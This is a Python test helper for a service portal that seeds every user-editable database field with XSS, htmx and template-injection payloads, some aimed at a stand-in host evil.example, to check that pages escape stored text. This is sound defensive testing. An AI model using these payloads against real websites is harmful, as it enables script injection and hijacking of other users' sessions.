"""What an attacker types, and where it is put: every text that a person can fill."""

import json
from collections.abc import Iterator
from dataclasses import fields
from itertools import cycle
from typing import Any

from sqlalchemy import JSON, String, select, text
from sqlalchemy.orm import Session

from portal.accounts.models import Screen, Staff
from portal.catalog.models import CannedSolution, Service, Topic
from portal.db import Base
from portal.hours.models import DayOverrideRow
from portal.journal.models import JournalEntry
from portal.mail.models import OutboxRow
from portal.orders.document_models import OrderDocument
from portal.orders.models import Contact, Order
from portal.orders.note_models import OrderNote
from portal.payments.models import Payment, Refund
from portal.privacy.models import DataBreach, NoticeVersion, PrivacyRequest
from portal.settings.models import Setting
from portal.settings.rules import BusinessSettings
from portal.support.customer_models import (
    AttentionMessage,
    ErrandEntry,
    Rating,
    RemoteCode,
)
from portal.support.models import (
    AttentionEntry,
    AttentionNote,
    AttentionPause,
    Draft,
)
from portal.support.remote_rules import seal
from portal.terms.models import ProofLink, TermsVersion, TermsWording

# Whatever runs calls this; the name is also how a page shows that it has the text.
CALL = "marca()"
_SRC = "https://evil.example/x"
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f'" autofocus onfocus={CALL} x="',
    f"' autofocus onfocus={CALL} x='",
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src='javascript:parent.{CALL}'></iframe>",
    f"<a href='javascript:{CALL}' id=trampa>{CALL}</a>",
    f"javascript:{CALL}//https://",
    f"JaVaScRiPt&colon;{CALL}",
    f"<form action='javascript:{CALL}'><button>{CALL}</button></form>",
    f"<math><mi xlink:href='javascript:{CALL}'>{CALL}</mi></math>",
    f"<object data='javascript:{CALL}'></object>",
    f"<base href='{_SRC}/'><!-- {CALL} -->",
    f"<meta http-equiv=refresh content='0;url={_SRC}?{CALL}'>",
    f"<link rel=stylesheet href='{_SRC}?{CALL}'>",
    f"<style>@import '{_SRC}?{CALL}';</style>",
    f"<div hx-get='{_SRC}?{CALL}' hx-trigger='load'></div>",
    f"<div data-hx-get='{_SRC}?{CALL}' data-hx-trigger='load'></div>",
    f"<div hx-on:load='{CALL}' hx-on::before-request='{CALL}'></div>",
    f"<b hx-on:click='{CALL}' hx-trigger='every 100ms' hx-post='/salir'>x</b>",
    f"<p hx-vals='js:{{a: {CALL}}}' hx-get='/' hx-trigger='load'>{CALL}</p>",
    f"<template hx-swap-oob='outerHTML:body'><script>{CALL}</script></template>",
    f"<hx-partial hx-target='body'><script>{CALL}</script></hx-partial>",
    "{{ 'marca()' ~ 'da' }} {{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for a in [1] %}marca(){% endfor %}{{ self }} ${marca()} <%= marca() %>",
    f"\u202e{CALL}\u202c <bdo dir=rtl>{CALL}</bdo>",
)
EVERYTHING = "\n".join(PAYLOADS)
# Of each: what people type there, and whether it may be long.
FIELDS: tuple[tuple[Any, str, bool], ...] = (
    *((Contact, name, False) for name in ("name", "email")),
    (Order, "problem", True),
    (Order, "topic_title", False),
    (Order, "service_name", False),
    *((Order, f"tax_{name}", False) for name in ("name", "activity", "address")),
    *((Order, name, False) for name in ("tax_commune", "address", "commune")),
    (OrderNote, "text", True),
    (OrderDocument, "folio", False),
    *((Payment, name, False) for name in ("detail", "gateway_payment_id")),
    (Refund, "reason", False),
    (Refund, "detail", False),
    (AttentionEntry, "text", True),
    (AttentionNote, "text", True),
    (AttentionPause, "reason", False),
    (AttentionMessage, "text", True),
    (ErrandEntry, "text", True),
    (Rating, "comment", True),
    (Draft, "text", True),
    (Staff, "name", False),
    (Staff, "email", False),
    (Screen, "name", False),
    (Service, "name", False),
    (Service, "summary", False),
    (Service, "details", True),
    (Topic, "title", False),
    (Topic, "answer", True),
    (CannedSolution, "title", False),
    (CannedSolution, "text", True),
    (DayOverrideRow, "note", False),
    (DataBreach, "occurred", False),
    *((DataBreach, name, True) for name in ("cause", "affected", "effects")),
    *((DataBreach, name, True) for name in ("measures", "untold_reason")),
    *((PrivacyRequest, name, False) for name in ("name", "email")),
    *((PrivacyRequest, name, True) for name in ("text", "extension_reason", "answer")),
    *((it, "body", True) for it in (NoticeVersion, TermsVersion, TermsWording)),
    (ProofLink, "content", True),
    (JournalEntry, "reason", False),
    (OutboxRow, "last_error", False),
)
# Texts that no person fills: words of the program's own, digests and keys.
OWN_WORDS = {
    *("state", "kind", "regime_kind", "outcome", "state_before", "disposition"),
    *("from_state", "to_state", "actor_kind", "object_kind", "action", "role"),
    *("slug", "topic_slug", "service_slug", "windows_bits", "document", "gateway"),
    *("act", "source", "locale", "template_version", "topic", "holder", "key"),
    *("sha256", "body_sha256", "text_sha256", "previous", "message_id"),
    *("link_seed", "seed", "link_hash", "token_hash", "key_hash", "code_hash"),
    *("reference_hash", "token_sealed", "password_hash", "pin_hash", "form_key"),
    *("idempotency_key", "buy_order", "account", "preference_id", "request_id"),
    # Figures, days and rules that the program writes.
    *("windows", "regime_decision", "data", "rejected_ids"),
    # Digits: what is no phone or RUT cannot be written out, and no page comes of it.
    *("phone", "rut", "tax_rut"),
    # Shown as parts of a link of the chain of proofs, which is poisoned itself.
    *("address", "user_agent", "checkbox_text", "regime_rule", "server_reply"),
    # Read by a program and shown to nobody.
    *("resource_id", "redirect_url"),
}
_NAMED_BY_US = {"settings", "job_turns", "worker_heartbeats"}
# Poisoned by its own rule: sealed, or a part of what a gateway said.
_OTHERWISE = {("remote_codes", "remote_code"), ("payments", "evidence")}
# What a gateway says of a payment and a page shows as it came.
_EVIDENCE = ("authorization_code", "card_last4")
_DIGITS = (
    "business_rut",
    "public_phone",
    "office_phone",
    "whatsapp",
    "special_mobiles",
)
SETTINGS = tuple(
    each.name
    for each in fields(BusinessSettings)
    if each.type in ("str", str) and each.name not in _DIGITS
)
LISTS = tuple(
    each.name
    for each in fields(BusinessSettings)
    if isinstance(each.default, tuple) and each.name not in _DIGITS
)


def unknown_texts() -> list[str]:
    """The columns with texts that stand in no list here."""
    known = {(model.__tablename__, column) for model, column, _ in FIELDS}
    return [
        f"{table.name}.{column.name}"
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, (String, JSON))
        and table.name not in _NAMED_BY_US
        and column.name not in OWN_WORDS
        and (table.name, column.name) not in known | _OTHERWISE
    ]


def tags() -> dict[str, str]:
    """The word that marks each field in a page -> the field's name."""
    names = [f"{model.__tablename__}.{column}" for model, column, _ in FIELDS]
    names += [f"settings.{name}" for name in (*SETTINGS, *LISTS)]
    names += ["remote_codes.remote_code", *(f"evidence.{it}" for it in _EVIDENCE)]
    return {f"campo{number:03}q": name for number, name in enumerate(names)}


# Without a word there, the act has not happened.
_TOLD = ("answer", "extension_reason")
_UNIQUE = ("folio", "email")


def _content(said: str) -> str:
    """A link of the chain of proofs: a page shows its values line by line."""
    return json.dumps({"navegador": said, "casillas": {said: said}, said: said})


def poison(session: Session, key: str) -> int:
    """Write the corpus over every such text of the database; how many texts.

    Past the gate for input on purpose: what is shown must be safe by itself. Each text
    ends with its field's tag. `key` seals the remote codes.
    """
    tag = {name: mark for mark, name in tags().items()}
    turn, written = cycle(PAYLOADS), 0
    _let_change(session)
    for model, column, is_long in FIELDS:
        mark = tag[f"{model.__tablename__}.{column}"]
        for number, row in enumerate(session.scalars(select(model)).all()):
            if column in _TOLD and getattr(row, column) is None:
                continue
            said = f"{EVERYTHING if is_long else next(turn)} {mark}"
            # Some must be told apart by the database.
            said += str(number) if column in _UNIQUE else ""
            said = _content(said) if column == "content" else said
            setattr(row, column, said.lower() if column == "email" else said)
            written += 1
    written += _poison_the_rest(session, key, turn, tag)
    session.commit()
    return written


def _let_change(session: Session) -> None:
    """Take away the triggers that keep published texts as they were."""
    known = text("SELECT name FROM sqlite_master WHERE type = 'trigger'")
    for name in session.scalars(known).all():
        session.execute(text(f"DROP TRIGGER {name}"))


def _poison_the_rest(
    session: Session, key: str, turn: Iterator[str], tag: dict[str, str]
) -> int:
    """The owner's values, the sealed codes, and what gateways said."""
    ours = select(Setting).where(Setting.name.in_((*SETTINGS, *LISTS)))
    settings = session.scalars(ours).all()
    for setting in settings:
        said = f"{next(turn)} {tag[f'settings.{setting.name}']}"
        setting.value = [said] if setting.name in LISTS else said
    codes = session.scalars(select(RemoteCode)).all()
    for code in codes:
        said = f"{next(turn)} {tag['remote_codes.remote_code']}"
        code.remote_code = seal((key,), said)
    payments = session.scalars(select(Payment)).all()
    for payment in payments:
        told = {it: f"{next(turn)} {tag[f'evidence.{it}']}" for it in _EVIDENCE}
        payment.evidence = {**(payment.evidence or {}), **told}
    return len(settings) + len(codes) + len(payments)
